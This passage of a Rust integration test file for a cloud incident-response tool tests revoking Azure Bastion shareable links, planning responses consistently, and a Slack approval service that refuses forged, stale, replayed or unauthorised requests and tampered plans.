        "provider": "azure", "account": SUB,
        "operation": "Microsoft.Network/bastionHosts/createShareableLinks/action",
        "action": "vm_connect", "document": bastion(), "outcome": "success",
        "principal": { "id": "8fce7839-280f-49b9-9eed-ad76438d9219", "type": "service_principal",
                       "tenant": "aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee" },
        "targets": { "ids": vms }, "severity": "high", "signals": [{ "id": "shareable_link" }]
    });
    let plan = arm.plan(&f);
    let text = std::fs::read_to_string(&plan).unwrap_or_default();
    assert!(text.contains("delete-shareable-links"), "{text}");
    let out = arm.cadet(RESPONDER, &["apply", &plan, "--execute"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let get = format!("{}/getShareableLinks", bastion());
    let delete = format!("{}/deleteShareableLinks", bastion());
    let sp = "/v1.0/servicePrincipals/8fce7839-280f-49b9-9eed-ad76438d9219";
    assert_eq!(
        arm.calls(0),
        vec![
            c("POST", &get, "2024-05-01"),
            c("POST", &delete, "2024-05-01"),
            c("POST", &get, "2024-05-01"),
            c("GET", sp, ""),
            c("PATCH", sp, ""),
            c("GET", sp, ""),
        ]
    );
    let r = report(&out);
    let steps = statuses(&r);
    assert!(
        steps
            .iter()
            .any(|(id, status)| id == "delete-shareable-links" && status == "applied"),
        "{steps:?}"
    );
    // The link to the VM the event did not name is still there.
    let body = json!({ "vms": [{ "vm": { "id": format!("{}-9", vm()) } }] });
    let port: u16 = arm
        .url
        .rsplit(':')
        .next()
        .and_then(|p| p.parse().ok())
        .unwrap_or_else(|| panic!("{}", arm.url));
    let (status, left) = http(
        port,
        "POST",
        &format!("{get}?api-version=2024-05-01"),
        &[
            ("Authorization", "Bearer t".to_string()),
            ("Content-Type", "application/json".to_string()),
        ],
        body.to_string().as_bytes(),
    );
    let left: Value = serde_json::from_str(&left).unwrap_or_else(|e| panic!("{e}: {left}"));
    assert_eq!(
        (status, left["value"].as_array().map(Vec::len)),
        (200, Some(1)),
        "{left}"
    );
    // A link's URL is its secret: the run's journal and report never hold one.
    let journal = std::fs::read(arm.dir.join("state.redb")).unwrap_or_default();
    assert!(
        !String::from_utf8_lossy(&journal).contains("shareable-url"),
        "a link URL was kept"
    );
    assert!(!r.to_string().contains("shareable-url"), "{r}");
}

#[test]
fn detect_plan_and_respond_plan_agree() {
    let out = Command::new(env!("CARGO_BIN_EXE_cadet"))
        .args(["detect", "--state", "memory", "--format", "json", "--plan"])
        .arg(repo().join("events/azure/vm-runcommand-aobo-partner.json"))
        .output()
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let finding: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}"));
    let steps: Vec<&str> = finding["response"]["plan"]["steps"]
        .as_array()
        .map(|a| a.iter().filter_map(|s| s["id"].as_str()).collect())
        .unwrap_or_default();
    assert_eq!(steps, ["remove-delegated-access"]);
    assert_eq!(finding["response"]["mode"], "suggest");
    // The same finding, planned again from the file a sink delivered.
    let dir = tmp("respond-plan");
    let path = dir.join("finding.json");
    std::fs::write(&path, &out.stdout).unwrap_or_else(|e| panic!("{e}"));
    let again = Command::new(env!("CARGO_BIN_EXE_cadet"))
        .args(["respond", "plan", "--json"])
        .arg(&path)
        .output()
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(
        again.status.success(),
        "{}",
        String::from_utf8_lossy(&again.stderr)
    );
    let plan: Value = serde_json::from_slice(&again.stdout).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(plan, finding["response"]["plan"]);
    // A bad line is named; the good ones still plan.
    std::fs::write(
        &path,
        format!(
            "{}\n{{\"nope\":1}}\n",
            String::from_utf8_lossy(&out.stdout).trim()
        ),
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let mixed = Command::new(env!("CARGO_BIN_EXE_cadet"))
        .args(["respond", "plan"])
        .arg(&path)
        .output()
        .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(mixed.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&mixed.stdout).contains("remove-delegated-access"));
    assert!(String::from_utf8_lossy(&mixed.stderr).contains("line 2"));
}

// ---------------------------------------------------------------------------------------------
// The approval service: findings in by signed webhook, a Slack message out, a Slack button in.

/// A loopback HTTP request; (status, body).
fn http(
    port: u16,
    method: &str,
    path: &str,
    headers: &[(&str, String)],
    body: &[u8],
) -> (u16, String) {
    use std::io::{Read, Write};
    let mut conn =
        std::net::TcpStream::connect(("127.0.0.1", port)).unwrap_or_else(|e| panic!("{e}"));
    let mut req = format!(
        "{method} {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\nContent-Length: {}\r\n",
        body.len()
    );
    for (k, v) in headers {
        req.push_str(&format!("{k}: {v}\r\n"));
    }
    req.push_str("\r\n");
    conn.write_all(req.as_bytes())
        .unwrap_or_else(|e| panic!("{e}"));
    conn.write_all(body).unwrap_or_else(|e| panic!("{e}"));
    let mut out = String::new();
    let _ = conn.read_to_string(&mut out);
    let status = out
        .split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    let body = out
        .split_once("\r\n\r\n")
        .map(|(_, b)| b.to_string())
        .unwrap_or_default();
    (status, body)
}

/// A loopback receiver for Slack posts (incoming webhook and response_url): the bodies.
fn slack_capture() -> (u16, std::sync::Arc<std::sync::Mutex<Vec<Value>>>) {
    use std::io::{Read, Write};
    let listener = TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("{e}"));
    let port = listener.local_addr().map(|a| a.port()).unwrap_or_default();
    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let log = seen.clone();
    std::thread::spawn(move || {
        for conn in listener.incoming().flatten() {
            let mut conn = conn;
            let mut reader = BufReader::new(conn.try_clone().unwrap_or_else(|e| panic!("{e}")));
            let mut len = 0usize;
            loop {
                let mut line = String::new();
                if reader.read_line(&mut line).unwrap_or(0) == 0 {
                    break;
                }
                if let Some(v) = line.to_ascii_lowercase().strip_prefix("content-length:") {
                    len = v.trim().parse().unwrap_or(0);
                }
                if line.trim().is_empty() {
                    break;
                }
            }
            let mut body = vec![0u8; len];
            let _ = reader.read_exact(&mut body);
            if let Ok(v) = serde_json::from_slice(&body) {
                log.lock().unwrap_or_else(|p| p.into_inner()).push(v);
            }
            let _ = conn
                .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok");
        }
    });
    (port, seen)
}

fn hmac_sha256(key: &[u8], parts: &[&[u8]]) -> Vec<u8> {
    use hmac::Mac;
    let mut m = hmac::Hmac::<sha2::Sha256>::new_from_slice(key).unwrap_or_else(|e| panic!("{e}"));
    for p in parts {
        m.update(p);
    }
    m.finalize().into_bytes().to_vec()
}

#[test]
fn approval_service_takes_findings_in_and_runs_a_slack_approval_once() {
    use base64::Engine;
    let aws = Aws::new(&[], false);
    // Slack user U0APPROVER may approve; U0INTRUDER may not.
    let policy = std::fs::read_to_string(aws.dir.join("policy.toml"))
        .unwrap_or_default()
        .replace(
            "[response]\n",
            "[response]\napprovers = [\"slack:U0APPROVER\"]\n",
        );
    std::fs::write(aws.dir.join("policy.toml"), policy).unwrap_or_else(|e| panic!("{e}"));
    let plan_path = aws.plan(&finding(&aws, json!({})));
    let plan: Value =
        serde_json::from_str(&std::fs::read_to_string(&plan_path).unwrap_or_default())
            .unwrap_or_else(|e| panic!("{e}"));
    let out = aws.cadet(
        "cadet-detector",
        &["request", &plan_path.display().to_string()],
    );
    let token = String::from_utf8_lossy(&out.stdout).trim().to_string();
    let payload = token.split('.').next().unwrap_or_default();
    let req: Value = serde_json::from_slice(
        &base64::engine::general_purpose::URL_SAFE_NO_PAD
            .decode(payload)
            .unwrap_or_default(),
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let request_id = req["request_id"].as_str().unwrap_or_default().to_string();
    let mut f = finding(&aws, json!({}));
    f["response"] = json!({ "mode": "approve", "why": "response.mode", "plan": plan,
                            "approval": { "request_id": request_id, "token": token,
                                          "expires_at": "later" } });
    let body = f.to_string();

    let (slack_port, slack) = slack_capture();
    let intake_key = [9u8; 32];
    let whsec = format!(
        "whsec_{}",
        base64::engine::general_purpose::STANDARD.encode(intake_key)
    );
    let signing = "8f742231b10e8888abcd99yyyzzz85a5";
    let port = free_port();
    let mut child = aws
        .command(
            "responder",
            &["serve", "--listen", &format!("127.0.0.1:{port}")],
        )
        .env("CADET_INTAKE_SECRET", &whsec)
        .env("CADET_SLACK_SIGNING_SECRET", signing)
        .env(
            "CADET_SLACK_WEBHOOK_URL",
            format!("http://127.0.0.1:{slack_port}/hook"),
        )
        .stderr(Stdio::piped())
        .spawn()
        .unwrap_or_else(|e| panic!("{e}"));
    if let Some(err) = child.stderr.take() {
        let mut line = String::new();
        let _ = BufReader::new(err).read_line(&mut line);
        assert!(line.contains("listening on"), "{line}");
    }
    let _server = Server(child);
    let now = jiff::Timestamp::now().as_second();

    // Findings: a forged signature is refused, a signed one is kept and posted to Slack.
    let sign = |ts: i64| {
        let mac = hmac_sha256(
            &intake_key,
            &[b"msg_1.", ts.to_string().as_bytes(), b".", body.as_bytes()],
        );
        format!(
            "v1,{}",
            base64::engine::general_purpose::STANDARD.encode(mac)
        )
    };
    let hdrs = |sig: String, ts: i64| {
        vec![
            ("webhook-id", "msg_1".to_string()),
            ("webhook-timestamp", ts.to_string()),
            ("webhook-signature", sig),
            ("content-type", "application/json".to_string()),
        ]
    };
    let (st, _) = http(
        port,
        "POST",
        "/findings",
        &hdrs("v1,AAAA".into(), now),
        body.as_bytes(),
    );
    assert_eq!(st, 401);
    let (st, _) = http(
        port,
        "POST",
        "/findings",
        &hdrs(sign(now - 3600), now - 3600),
        body.as_bytes(),
    );
    assert_eq!(st, 401, "a stale delivery was taken in");
    let (st, answer) = http(
        port,
        "POST",
        "/findings",
        &hdrs(sign(now), now),
        body.as_bytes(),
    );
    assert_eq!(st, 200, "{answer}");
    assert!(answer.contains("\"kept\""), "{answer}");
    let message = slack
        .lock()
        .unwrap_or_else(|p| p.into_inner())
        .first()
        .cloned()
        .unwrap_or_default();
    let buttons = &message["blocks"][3]["elements"];
    assert_eq!(buttons[0]["action_id"], "cadet_approve");
    assert_eq!(buttons[0]["value"], json!(request_id));
    assert!(
        !message.to_string().contains(&token),
        "the token left the journal"
    );

    // Slack presses.
    let press = |user: &str, action: &str, ts: i64, good_sig: bool| {
        let payload = json!({ "type": "block_actions", "user": { "id": user },
            "actions": [{ "action_id": action, "value": request_id }],
            "response_url": format!("http://127.0.0.1:{slack_port}/response") });
        let form = serde_urlencoded_body(&payload.to_string());
        let mac = hmac_sha256(
            signing.as_bytes(),
            &[format!("v0:{ts}:").as_bytes(), form.as_bytes()],
        );
        let mut sig: String = mac.iter().map(|b| format!("{b:02x}")).collect();
        if !good_sig {
            // Change the first hex digit (a replacement of one digit by another would leave a
            // MAC without that digit valid: 1 run in 60 for `a`).
            let other = if sig.starts_with('0') { "1" } else { "0" };
            sig.replace_range(..1, other);
        }
        http(
            port,
            "POST",
            "/slack/actions",
            &[
                ("x-slack-request-timestamp", ts.to_string()),
                ("x-slack-signature", format!("v0={sig}")),
                (
                    "content-type",
                    "application/x-www-form-urlencoded".to_string(),
                ),
            ],
            form.as_bytes(),
        )
    };
    let wait_for = |n: usize| {
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
        loop {
            let got = slack.lock().unwrap_or_else(|p| p.into_inner()).clone();
            if got.len() >= n {
                return got[n - 1]["text"].as_str().unwrap_or_default().to_string();
            }
            assert!(
                std::time::Instant::now() < deadline,
                "no Slack answer #{n}: {got:?}"
            );
            std::thread::sleep(std::time::Duration::from_millis(100));
        }
    };
    assert_eq!(press("U0APPROVER", "cadet_approve", now, false).0, 401);
    assert_eq!(press("U0APPROVER", "cadet_approve", now - 900, true).0, 401);
    assert_eq!(press("U0INTRUDER", "cadet_approve", now, true).0, 200);
    let said = wait_for(2);
    assert!(said.contains("not one of response.approvers"), "{said}");
    assert_eq!(aws.ssm_calls("CancelCommand"), 0);
    assert_eq!(press("U0APPROVER", "cadet_approve", now, true).0, 200);
    let said = wait_for(3);
    assert!(
        said.contains("approved by <@U0APPROVER>") && said.contains("cancel-command applied"),
        "{said}"
    );
    assert_eq!(aws.ssm_calls("CancelCommand"), 1);
    // A second press is a replay.
    assert_eq!(press("U0APPROVER", "cadet_approve", now, true).0, 200);
    let said = wait_for(4);
    assert!(said.contains("already used"), "{said}");
    assert_eq!(aws.ssm_calls("CancelCommand"), 1);
}

/// `payload=<urlencoded JSON>` as Slack sends it.
fn serde_urlencoded_body(payload: &str) -> String {
    let mut out = String::from("payload=");
    for b in payload.bytes() {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'*' => {
                out.push(b as char)
            }
            b' ' => out.push('+'),
            _ => out.push_str(&format!("%{b:02X}")),
        }
    }
    out
}

#[test]
fn intake_keeps_a_finding_for_approve_by_request_id() {
    use base64::Engine;
    let aws = Aws::new(&[], false);
    let plan_path = aws.plan(&finding(&aws, json!({})));
    let plan: Value =
        serde_json::from_str(&std::fs::read_to_string(&plan_path).unwrap_or_default())
            .unwrap_or_else(|e| panic!("{e}"));
    let out = aws.cadet(
        "cadet-detector",
        &["request", &plan_path.display().to_string()],
    );
    let token = String::from_utf8_lossy(&out.stdout).trim().to_string();
    let req: Value = serde_json::from_slice(
        &base64::engine::general_purpose::URL_SAFE_NO_PAD
            .decode(token.split('.').next().unwrap_or_default())
            .unwrap_or_default(),
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let request_id = req["request_id"].as_str().unwrap_or_default().to_string();
    let mut f = finding(&aws, json!({}));
    f["response"] = json!({ "mode": "approve", "why": "w", "plan": plan,
                            "approval": { "request_id": request_id, "token": token } });
    let path = aws.dir.join("delivered.jsonl");
    // One good delivery and one whose plan was edited after signing.
    let mut tampered = f.clone();
    tampered["response"]["plan"]["steps"][1]["call"]["request"]["CommandId"] = json!("other");
    std::fs::write(&path, format!("{f}\n{tampered}\n")).unwrap_or_else(|e| panic!("{e}"));
    let out = aws.cadet("responder", &["intake", &path.display().to_string()]);
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains(":1: request") && err.contains("kept for approval"),
        "{err}"
    );
    assert!(err.contains(":2: refused: the plan changed"), "{err}");
    let id = f["finding_id"].as_str().unwrap_or_default();
    let out = aws.cadet("responder", &["plan", "--finding-id", id, "--json"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let again: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(again, plan);
    let out = aws.cadet("responder", &["approve", "--request", &request_id]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(aws.ssm_calls("CancelCommand"), 1);
}
